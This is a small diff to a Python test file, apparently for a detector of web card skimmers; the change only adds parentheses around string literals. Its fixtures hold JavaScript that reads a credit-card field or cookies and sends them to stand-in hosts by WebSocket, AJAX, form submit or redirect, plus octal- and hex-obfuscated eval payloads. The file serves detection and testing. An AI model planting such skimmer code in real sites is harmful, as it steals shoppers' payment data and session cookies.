@@ -198,8 +198,8 @@ SOURCE = "var d = document.getElementById('cc_number').value;\n"
         ("var w = new WebSocket('wss://f.example.net/s'); w.send(d);", "WebSocket", "f.example.net"),
         ("jQuery.ajax({url: 'https://g.example.net/a', type: 'POST', data: {c: d}});", "jQuery.ajax", "g.example.net"),
         ("$.post('https://h.example.net/p', d);", "jQuery.post", "h.example.net"),
-        ("var f = document.createElement('form'); f.action = 'https://i.example.net/f';\n"
-         "var n = document.createElement('input'); n.value = d; f.appendChild(n); f.submit();",
+        (("var f = document.createElement('form'); f.action = 'https://i.example.net/f';\n"
+          "var n = document.createElement('input'); n.value = d; f.appendChild(n); f.submit();"),
          "form.submit", "i.example.net"),
         ("window.open('https://j.example.net/?q=' + d);", "window.open", "j.example.net"),
         ("location.href = 'https://k.example.net/?q=' + d;", "location.href", "k.example.net"),
@@ -519,8 +519,8 @@ def test_parse_plan_skips_plain_code_and_keeps_skimmer_shapes() -> None:
 @pytest.mark.parametrize(
     "code",
     [
-        "var h = 'https://'; b.ajax({url: h + 'host-only.example.net/g.php', data: q, type: 'POST'});"
-        " var q = document.querySelector('#cc_number').value;",
+        ("var h = 'https://'; b.ajax({url: h + 'host-only.example.net/g.php', data: q, type: 'POST'});"
+         " var q = document.querySelector('#cc_number').value;"),
         "this['eval']('" + "".join(f"\\{ord(c):o}" for c in "var a = document.forms[0].elements; send(a);" * 3) + "');",
         "this['eval'](this['unescape']('" + "".join(f"%{ord(c):02x}" for c in "var a = document.cookie; go(a);" * 5) + "'));",
     ],
